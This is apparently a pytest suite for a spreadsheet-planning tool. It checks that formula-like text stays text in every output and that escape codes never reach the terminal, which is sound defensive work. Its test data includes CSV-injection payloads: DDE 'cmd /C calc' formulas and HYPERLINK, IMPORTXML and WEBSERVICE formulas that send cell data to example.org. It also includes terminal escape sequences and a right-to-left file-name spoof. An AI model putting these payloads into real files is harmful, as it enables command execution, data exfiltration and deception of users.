"""Text that a spreadsheet may take for a formula stays text on every way out, and steers no terminal."""

import csv
import io
import json
import tomllib
from dataclasses import replace
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner, Result

from engines import stored_values
from returned import by_id, small_book, worked_example
from xlplan import load
from xlplan.cli import main
from xlplan.merge import merged
from xlplan.plan import Plan, Row, Value
from xlplan.planfile import parse_plan, write_plan
from xlplan.share import shared
from xlplan.values import LONGEST_LABEL
from xlplan.workbook.manifest import stretches

INJECTIONS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)-cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!D2", "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Error")', '=IMPORTXML(CONCAT("http://example.org?v=",A1),"//a/a10")',
    '=DDE("cmd";"/C calc";"x")', '=1+1";=1+1', "';=1+1", '"=1+1', ",=1+1", ";=1+1", "|=1+1", "%0A=1+1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", '=WEBSERVICE("http://example.org")', "=-1", "==1", "{=1+1}",
    "<b>=1</b>", "&=1",
)  # fmt: skip
"""The list of OWASP's page on CSV injection, with its wide and separated spellings."""


def run(*words: object) -> Result:
    result = CliRunner().invoke(main, [str(word) for word in words])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exc_info
    return result


def poisoned(plan: Plan) -> Plan:
    """The plan with one of the texts in every text field of every row; names stay different from each other."""
    count = iter(range(10**6))

    def text(field_is_key: bool) -> str:
        number = next(count)
        found = INJECTIONS[number % len(INJECTIONS)]
        return f"{found} {number}"[:LONGEST_LABEL].translate(str.maketrans("*?~", "xxx")) if field_is_key else found

    def row(table: str, values: Row) -> Row:
        fields = {field.id: field for field in plan.catalogue.tables[table].fields}
        found: dict[str, Value] = {
            key: text(fields[key].key) if key in fields and fields[key].kind == "text" else value
            for key, value in values.items()
        }
        blank = (f for f in fields.values() if f.kind == "text" and f.id not in found)
        return found | {field.id: text(field.key) for field in blank}

    tables = {table: tuple(row(table, r) for r in rows) for table, rows in plan.tables.items()}
    return replace(plan, settings=row("settings", plan.settings), tables=tables)


@pytest.fixture(scope="module")
def plan() -> Plan:
    return poisoned(worked_example())


@pytest.fixture(scope="module")
def book(plan: Plan) -> bytes:
    return small_book(plan)[0]


@pytest.fixture
def file(book: bytes, tmp_path: Path) -> Path:
    path = tmp_path / "north.xlsx"
    path.write_bytes(book)
    return path


def formula_texts(data: bytes) -> set[str]:
    """Formulas of the input sheets' input cells; there must be none."""
    workbook = openpyxl.load_workbook(BytesIO(data))
    layout = small_book_layout(data)
    return {
        f"{s.sheet} {row} {s.column}"
        for s in layout
        for row in range(s.first, s.first + s.count)
        if workbook[s.sheet].cell(row, s.column).data_type == "f"
    }


def small_book_layout(data: bytes) -> list:
    from xlplan.workbook.build import make_layout

    return list(stretches(make_layout(worked_example(), 1)))


def test_every_text_field_is_poisoned(plan: Plan) -> None:
    texts = {v for t, rows in plan.tables.items() for r in rows for k, v in r.items() if isinstance(v, str)}
    assert set(INJECTIONS) <= texts


def test_texts_are_stored_as_text_and_come_back_as_they_were_typed(book: bytes, plan: Plan, file: Path) -> None:
    assert formula_texts(book) == set()
    assert by_id(load(file)) == by_id(plan)


def test_formulas_that_repeat_a_text_show_it(book: bytes, plan: Plan) -> None:
    shown = {value for value in stored_values(book).values() if isinstance(value, str)}
    assert str(plan.settings["title"]) in shown


@pytest.mark.parametrize(
    "words", [("calc", "{file}", "-o", "{out}"), ("translate", "{file}", "--lang", "en", "-o", "{out}"),
              ("verify", "{file}", "--fix", "{out}"), ("new", "{out}", "--from", "{file}", "--rows", "1")],
    ids=["calc", "translate", "verify", "new"],
)  # fmt: skip
def test_every_workbook_that_is_written_holds_the_texts_as_text(
    words: tuple[str, ...], plan: Plan, file: Path, tmp_path: Path
) -> None:
    out = tmp_path / "out.xlsx"
    run(*(word.format(file=file, out=out) for word in words))
    assert by_id(load(out)) == by_id(plan)


def test_a_shared_and_a_merged_plan_keep_the_texts(plan: Plan) -> None:
    kept = {v for v in by_id(shared(plan).plan).values() if isinstance(v, str)}
    assert set(INJECTIONS) <= kept
    other = replace(plan, settings={**plan.settings, "title": "=other"}, origin=plan.digest)
    assert merged(plan, plan, other).plan.settings["title"] == "=other"


def test_the_plan_file_holds_the_texts_as_text(plan: Plan) -> None:
    text = write_plan(plan)
    assert tomllib.loads(text)["plan"]["title"] == plan.settings["title"]
    assert by_id(parse_plan(text)) == by_id(plan)


def test_tables_of_costs_hold_ids_and_numbers_only(file: Path, tmp_path: Path) -> None:
    assert run("export", file, "--to", tmp_path / "x.csv").exit_code == 0
    cells = [cell for row in csv.reader(io.StringIO((tmp_path / "x.csv").read_text(encoding="utf-8"))) for cell in row]
    assert [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")] == []
    assert [cell for cell in cells if cell.startswith("-") and not is_number(cell)] == []


def is_number(text: str) -> bool:
    try:
        return bool(float(text) or True)
    except ValueError:
        return False


def test_json_holds_the_texts_as_strings(file: Path, tmp_path: Path) -> None:
    assert json.loads(run("show", file, "--json").stdout)
    assert json.loads(run("diff", file, file, "--json").stdout) == {"changes": [], "log": [], "effects": []}


STEERING = "\x1b]0;owned\x07\x1b[2J\u202egnp.exe\r\n\x9b31m"


@pytest.mark.parametrize("words", [("check",), ("show",), ("verify",), ("diff",), ("migrate",)], ids=lambda w: w[0])
def test_no_text_of_a_file_steers_the_terminal(words: tuple[str, ...], file: Path, tmp_path: Path) -> None:
    """Neither what is typed nor the name of the file."""
    evil = tmp_path / "north\x1b[2J.xlsx"
    evil.write_bytes(file.read_bytes())
    more = {"diff": (evil,), "migrate": ("-o", tmp_path)}.get(words[0], ())
    result = run(*words, evil, *more)
    said = result.stdout + result.stderr
    assert said
    assert [c for c in said if not (c.isprintable() or c == "\n")] == []


def test_a_text_with_control_characters_is_refused_with_a_harmless_sentence(tmp_path: Path) -> None:
    plan = worked_example()
    (tmp_path / "p.toml").write_text(write_plan(replace(plan, settings={**plan.settings, "title": STEERING})), "utf-8")
    result = run("show", tmp_path / "p.toml")
    assert result.exit_code == 1
    assert [c for c in result.stderr if not (c.isprintable() or c == "\n")] == []
